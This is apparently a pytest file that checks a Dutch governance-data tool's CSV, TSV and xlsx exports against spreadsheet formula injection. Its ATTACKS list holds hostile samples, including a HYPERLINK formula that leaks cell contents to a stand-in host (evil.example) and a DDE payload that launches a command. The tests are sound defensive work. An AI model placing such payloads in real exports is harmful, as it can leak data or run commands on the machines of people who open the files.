"""Text from the data never becomes a live formula in a spreadsheet: CSV cells get an
apostrophe, .xlsx cells the text type, and the workbook reader reads its own CSV back as written."""

from __future__ import annotations

import csv
import io

import pytest
from helpers import DATA
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from pyoxigraph import Literal, NamedNode, Quad, Store
from typer.testing import CliRunner

from jeugdgov import cli
from jeugdgov.formulas import neutralised, restored
from jeugdgov.sparql.results import write_result

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
ATTACKS = [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+3.5", "-1e3", "Gemeente Almere", "'s-Hertogenbosch", "", 7])
def test_numbers_and_plain_texts_are_left_alone(value):
    assert neutralised(value) == value


@given(st.text())
def test_the_workbook_reader_reads_back_what_was_written(text):
    assert restored(str(neutralised(text))) == text


class _Sink(io.BytesIO):
    pass


@pytest.fixture
def store() -> Store:
    found = Store()
    for number, text in enumerate(ATTACKS):
        found.add(Quad(NamedNode(f"http://example.org/s{number}"), NamedNode("http://example.org/label"),
                       Literal(text)))
    found.add(Quad(NamedNode("http://example.org/n"), NamedNode("http://example.org/label"),
                   Literal("-5", datatype=NamedNode("http://www.w3.org/2001/XMLSchema#integer"))))
    return found


def _select(store: Store):
    return store.query("SELECT ?s ?label WHERE { ?s <http://example.org/label> ?label } ORDER BY ?s")


def test_endpoint_csv_neutralises_what_would_run(store):
    sink = _Sink()
    write_result(_select(store), "csv", sink)
    rows = list(csv.reader(io.StringIO(sink.getvalue().decode("utf-8"), newline="")))
    assert rows[0] == ["s", "label"]
    labels = dict(rows[1:])
    assert all(labels[f"http://example.org/s{n}"] == "'" + text for n, text in enumerate(ATTACKS))
    assert labels["http://example.org/n"] == "-5"


def test_endpoint_tsv_for_spreadsheets_neutralises_too(store):
    sink = _Sink()
    write_result(_select(store), "plain-tsv", sink)
    cells = [line.split("\t")[1] for line in sink.getvalue().decode("utf-8").splitlines()[1:]]
    assert all(not cell.startswith(("=", "+", "@")) for cell in cells) and "-5" in cells


def test_endpoint_xlsx_holds_texts_not_formulas(store):
    sink = _Sink()
    write_result(_select(store), "xlsx", sink)
    sheet = load_workbook(io.BytesIO(sink.getvalue()))["result"]
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type != "f" for cell in cells)
    assert LINK in [cell.value for cell in cells]  # the text itself, unchanged
    assert -5 in [cell.value for cell in cells]


def test_convert_writes_texts_not_formulas_and_reads_its_csv_back(tmp_path):
    source = tmp_path / "setup.ttl"
    source.write_text((DATA / "flevoland-handelingskader.ttl").read_text(encoding="utf-8")
                      .replace('"Gemeente Almere"', '"""' + LINK + '"""'), encoding="utf-8")
    book = tmp_path / "setup.xlsx"
    assert CliRunner().invoke(cli.app, ["convert", str(source), "--to", "xlsx", "--out", str(book)]).exit_code == 0
    cells = [cell for sheet in load_workbook(book) for row in sheet.iter_rows() for cell in row
             if cell.value == LINK]
    assert cells and all(cell.data_type == "s" for cell in cells)

    folder = tmp_path / "csv"
    assert CliRunner().invoke(cli.app, ["convert", str(source), "--to", "csv", "--out", str(folder)]).exit_code == 0
    written = "".join(path.read_text(encoding="utf-8") for path in folder.glob("*.csv"))
    assert "'" + LINK.replace('"', '""') in written and '"' + LINK.replace('"', '""') not in written
    back = tmp_path / "back.trig"
    assert CliRunner().invoke(cli.app, ["convert", str(folder), "--to", "trig", "--out", str(back)]).exit_code == 0
    assert LINK.replace('"', '\\"') in back.read_text(encoding="utf-8")
